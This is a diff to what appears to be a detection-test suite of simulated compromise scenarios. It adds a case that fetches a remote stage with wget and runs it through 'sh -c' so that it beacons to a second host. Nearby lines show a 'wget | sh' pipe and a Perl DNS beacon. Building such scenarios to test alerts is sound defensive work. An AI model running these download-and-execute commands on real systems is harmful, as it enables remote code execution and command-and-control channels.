@@ -556,6 +556,14 @@ def _cw_pipe(ctx: Ctx) -> None:
     ctx.exec(f"wget -q -O- http://{SINK_IP}/stage2 | sh")
 
 
+def _cw_inline(ctx: Ctx) -> None:
+    # the shell runs wget in a child, then sh -c with what it printed: no
+    # file, no pipe into the interpreter. The stage beacons to port 9002
+    # ($1): cw-pipe-stage-two's stage (4444, the same interpreter) would be
+    # the same alert, suppressed as a repeat for 600 s
+    ctx.exec(f'sh -c "$(wget -q -O- http://{SINK_IP}/stage2)" stage 9002')
+
+
 def _cw_dns(ctx: Ctx) -> None:
     ctx.exec(f"{put('/tmp/.d.pl', DNS_PL)}; perl /tmp/.d.pl {SINK_IP} 5353 40")
 
@@ -748,6 +756,14 @@ COMPROMISED: tuple[Scenario, ...] = tuple(
             ("SL-C2-001",),
             "`wget -O- URL | sh`: a script piped into the shell, which beacons to a second host",
             _cw_pipe,
+        ),
+        (
+            "cw-inline-stage-two",
+            "T1104",
+            ("SL-C2-001",),
+            '`sh -c "$(wget -O- URL)"`: the fetched script on the shell\'s command line, which beacons to a second '
+            "host",
+            _cw_inline,
         ),
         (
             "cw-dns-other-port",
